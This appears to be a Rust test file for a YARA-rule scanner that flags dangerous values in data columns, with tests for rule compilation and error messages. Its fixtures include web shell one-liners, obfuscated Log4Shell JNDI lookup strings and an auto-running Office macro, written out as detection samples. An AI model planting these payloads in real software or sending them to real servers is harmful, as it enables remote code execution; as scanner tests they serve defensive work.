use arrow::array::StringArray;

use super::super::{Inspected, Kinds, search};
use super::*;

fn file(text: &str) -> RuleFile {
    RuleFile { name: "rules/own.yar".to_owned(), text: text.to_owned() }
}

fn found(patterns: Patterns, value: &str) -> Option<&'static str> {
    patterns.judge(value.as_bytes()).unwrap()
}

/// The test file of antivirus programs, put together here so that no file holds it.
fn eicar() -> String {
    ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR", "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].concat()
}

#[test]
fn each_rule_that_every_gate_has_finds_what_it_is_for() {
    let patterns = Patterns::builtin().unwrap();
    let key = |kind: &str| ["-----BEGIN ", kind, "PRIVATE KEY-----\nMIIB"].concat();
    let encoded = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, "MZ..This program cannot be run in DOS mode.\r\n");
    for (value, rule) in [
        (eicar().as_str(), "eicar"),
        (&key(""), "private_key"),
        (&key("RSA "), "private_key"),
        (&key("OPENSSH "), "private_key"),
        (&key("ENCRYPTED "), "private_key"),
        (&["-----BEGIN PGP ", "PRIVATE KEY BLOCK-----"].concat(), "private_key"),
        (&["key: AKIA", "IOSFODNN7EXAMPLE"].concat(), "aws_access_key"),
        ("<?php @eval($_POST['x']); ?>", "web_shell"),
        ("<?= system ($_GET[0]) ?>", "web_shell"),
        ("<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", "web_shell"),
        ("<%eval request(\"x\")%>", "web_shell"),
        ("${jndi:ldap://example.org/a}", "log4shell"),
        ("${${lower:j}ndi:ldap://example.org/a}", "log4shell"),
        ("${j${::-n}di:ldap://example.org/a}", "log4shell"),
        ("${${env:NOTHERE:-j}ndi:ldap://example.org}", "log4shell"),
        ("TVqQAAMAAAAEAAAA//8AALgAAAA", "encoded_program"),
        (&encoded, "encoded_program"),
        ("f0VMRgIBAQAAAAAAAAAAAAMAPgAB", "encoded_program"),
        ("0M8R4KGxGuEAAAAAAAAAAAAAAAAAAAAAPgADAP7/", "office_macro"),
        ("Sub AutoOpen()\n x = Shell(\"calc\")\nEnd Sub", "office_macro"),
    ] {
        assert_eq!(found(patterns, value), Some(rule), "{rule}");
        let mut begins = Vec::new();
        assert!(patterns.find(format!("abc\n{value}\nabc").as_bytes(), |at| begins.push(at)).unwrap());
        assert!(begins.iter().any(|at| (4..4 + value.len()).contains(at)), "{rule}: {begins:?}");
    }
}

#[test]
fn texts_that_only_resemble_them_are_not_found() {
    let patterns = Patterns::builtin().unwrap();
    for value in [
        "-----BEGIN CERTIFICATE-----",
        "-----BEGIN PUBLIC KEY-----",
        "AKIA",
        "AKIAIOSFODNN7EXAMPLEX",
        "xAKIAIOSFODNN7EXAMPLE",
        "<?php echo 1; ?>",
        "we evaluate (x)",
        "<% if x %>",
        "${HOME}/bin",
        "${a}${b}",
        "TVqQ",
        "Shell station, Sub Station",
        "Sub AutoOpener",
        "jndi:ldap",
    ] {
        assert_eq!(found(patterns, value), None, "{value}");
    }
}

#[test]
fn rules_of_a_project_are_judged_for_one_value() {
    let patterns = Patterns::compile(&[file(
        "rule words { strings: $a = \"alpha\" fullword $b = \"beta\" nocase condition: all of them }
         rule starts { strings: $a = \"gamma\" condition: $a at 0 and filesize < 20 }
         rule twice { strings: $a = \"delta\" condition: #a >= 2 }
         rule bytes { strings: $a = { 65 70 (73 | 74) ?? 6C } condition: $a }
         private rule small { condition: filesize < 10 }
         rule uses { strings: $ = \"zeta\" private condition: small and any of them }",
    )])
    .unwrap();
    assert_eq!(patterns.rules(), Patterns::builtin().unwrap().rules() + 5);
    assert_eq!(found(patterns, "alpha and Beta"), Some("words"));
    assert_eq!(found(patterns, "alphabet and beta"), None);
    assert_eq!(found(patterns, "alpha"), None);
    assert_eq!(found(patterns, "gamma ray"), Some("starts"));
    assert_eq!(found(patterns, "a gamma ray"), None);
    assert_eq!(found(patterns, "gamma rays are rather long"), None);
    assert_eq!(found(patterns, "delta, delta"), Some("twice"));
    assert_eq!(found(patterns, "delta"), None);
    assert_eq!(found(patterns, "epsilon"), Some("bytes"));
    assert_eq!(found(patterns, "a zeta"), Some("uses"));
    assert_eq!(found(patterns, "a longer zeta"), None);
    assert_eq!(found(patterns, &["${", "jndi:x}"].concat()), Some("log4shell"));
    // The two strings of `words` in two values are not one value that holds both, but both begin in it.
    let mut begins = Vec::new();
    assert!(patterns.find(b"alpha\nbeta\nzeta", |at| begins.push(at)).unwrap());
    begins.sort_unstable();
    // Of two strings that are both needed the one that is found faster is searched for.
    assert_eq!(begins, [0, 11]);
    assert!(patterns.find(b"alphas alpha", |at| begins.push(at)).unwrap());
    assert_eq!(begins, [0, 11, 7]);
}

/// What is searched for, of one rule with these strings and this condition.
fn searched(condition: &str) -> Option<Vec<String>> {
    let text =
        format!("rule r {{ strings: $a = \"aaaa\" $b1 = /bbbb/ $b2 = \"cccc\" nocase $d = {{ 64 64 64 64 }} condition: {condition} }}");
    let ast = AST::from(text.as_str());
    assert!(ast.errors().is_empty(), "{condition}: {:?}", ast.errors());
    let rule = ast.rules().next().unwrap();
    let patterns = rule.patterns.as_deref().unwrap();
    let places = needed(&rule.condition, patterns)?;
    Some(places.into_iter().map(|place| patterns[place].identifier().name.to_owned()).collect())
}

#[test]
fn what_is_searched_for_is_what_a_condition_cannot_hold_without() {
    for (condition, wanted) in [
        ("$a", &["$a"][..]),
        ("$a and $b1 and $b2 and $d", &["$a"]),
        ("($a or $b2) and $b1", &["$a", "$b2"]),
        ("$a or ($b1 and $d)", &["$a", "$d"]),
        ("any of them", &["$a", "$b1", "$b2", "$d"]),
        ("all of them", &["$a"]),
        ("2 of ($b*)", &["$b1", "$b2"]),
        ("all of ($b*)", &["$b2"]),
        ("any of ($a, $d)", &["$a", "$d"]),
        ("#b1 > 0", &["$b1"]),
        ("#d >= 1 and filesize < 10", &["$d"]),
        ("$a at 0 or $d in (0..10)", &["$a", "$d"]),
        ("for any of ($a, $d) : ($ at 0)", &["$a", "$d"]),
        ("for any of ($a, $d) : ($b1)", &["$b1"]),
        ("for all of ($b*) : ($ and $a)", &["$a"]),
        ("not $a and $b1", &["$b1"]),
        ("false", &[]),
    ] {
        assert_eq!(
            searched(condition).as_deref(),
            Some(&wanted.iter().map(|name| (*name).to_owned()).collect::<Vec<_>>()[..]),
            "{condition}"
        );
    }
    for condition in
        ["true", "not $a", "$a or filesize > 1", "none of them", "#a >= 0", "#a == 0", "0 of them", "for all of them : (# == 0)", "#a < 2"]
    {
        assert_eq!(searched(condition), None, "{condition}");
    }
}

#[test]
fn too_many_places_are_told() {
    let patterns = Patterns::compile(&[file("rule xs { strings: $a = \"xyxy\" condition: $a }")]).unwrap();
    assert!(!patterns.find("xyxy\n".repeat(MATCHES_MAX + 1).as_bytes(), |_| {}).unwrap());
    assert!(patterns.find("xyxy\n".repeat(100).as_bytes(), |_| {}).unwrap());
}

#[test]
fn compiling_the_same_again_takes_nothing() {
    let (one, two) = (Patterns::compile(&[]).unwrap(), Patterns::builtin().unwrap());
    assert!(std::ptr::eq(one.set, two.set));
}

#[test]
fn what_a_rule_may_not_hold_is_told_with_its_line() {
    let without = "may hold for a value in which none of its strings is; add `and any of them` to its condition";
    for (text, line, wanted) in [
        ("rule a { strings: $a = \"x1x2x3\" condition: $b }", 1, "the rule does not compile: unknown pattern"),
        ("rule a {\n  condition\n}", 3, "the rule does not compile: syntax error"),
        ("import \"pe\"\nrule a { strings: $a = \"x1x2x3\" condition: $a }", 1, "the module pe is not there"),
        ("include \"/etc/passwd\"", 1, "another file is included"),
        ("\nglobal rule a { strings: $a = \"x1x2x3\" condition: $a }", 2, "rule a is global"),
        ("rule a { condition: filesize > 10 }", 1, without),
        ("rule a { strings: $a = \"x1x2x3\" condition: not $a }", 1, without),
        ("rule a { strings: $a = \"x1x2x3\" condition: $a or filesize > 10 }", 1, without),
        ("rule a { strings: $a = \"x1x2x3\" condition: for all of them : (# == 0) }", 1, without),
        ("rule a { strings:\n $a = /^start[0-9]/ condition: $a }", 2, "a regular expression of rule a holds ^, $, \\A or \\z"),
        ("rule a { strings: $a = /end[0-9]$/ condition: $a }", 1, "a regular expression of rule a holds ^, $, \\A or \\z"),
        ("rule a { strings: $a = /.*x/ condition: $a }", 1, "the rule does not compile"),
        (
            "rule a { strings: $a = \"x1x2x3\" condition: $a }\nrule a { strings: $a = \"x1x2x3\" condition: $a }",
            2,
            "the rule does not compile: duplicate rule",
        ),
    ] {
        let problems = Patterns::compile(&[file(text)]).unwrap_err().to_string();
        assert!(problems.starts_with(&format!("rules/own.yar, line {line}: ")) && problems.contains(wanted), "{text}: {problems}");
    }
}

/// Values that a rule holds for, by themselves and as they are searched for among others.
#[test]
fn what_ends_with_its_value_is_found_among_others() {
    let coded = |text: &str| base64::Engine::encode(&base64::engine::general_purpose::STANDARD_NO_PAD, text);
    let sentence = "This program cannot be run in DOS mode";
    let builtin: Vec<String> = ["", "xy", "x", "MZ"].iter().map(|before| coded(&format!("{before}{sentence}"))).collect();
    let xored: String = "secretword".bytes().map(|byte| char::from(byte ^ 0x41)).collect();
    for (strings, values) in [
        ("\"never\"", builtin),
        ("/key\\s*/ fullword", vec!["key".to_owned(), "a key ".to_owned()]),
        ("\"secretword\" xor fullword", vec![xored]),
        (
            "\"secret sentence\" base64(\"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_\")",
            vec![coded("secret sentence")],
        ),
        ("/(?-i)abcd/ nocase", vec!["ABCD".to_owned()]),
    ] {
        let patterns = Patterns::compile(&[file(&format!("rule own {{ strings: $a = {strings} condition: $a }}"))]).unwrap();
        for value in values {
            assert!(found(patterns, &value).is_some(), "{strings}: {value}");
            let rows = StringArray::from(vec!["word", &value, "next"]);
            let column = Inspected { place: 0, waived: Kinds::default(), array: &rows };
            let hits: Vec<usize> = search::hits(patterns, &[column]).unwrap().into_iter().map(|hit| hit.row).collect();
            assert_eq!(hits, [1], "{strings}: {value}");
        }
    }
}

#[test]
fn anchors_are_told_from_what_looks_like_them() {
    assert!(is_anchored("^a") && is_anchored("a$") && is_anchored("(^|b)") && is_anchored("[a]^"));
    assert!(is_anchored("\\Aa") && is_anchored("a\\z"));
    assert!(!is_anchored("[^a]") && !is_anchored("A\\\\z") && !is_anchored("\\^\\$") && !is_anchored("[$]"));
}
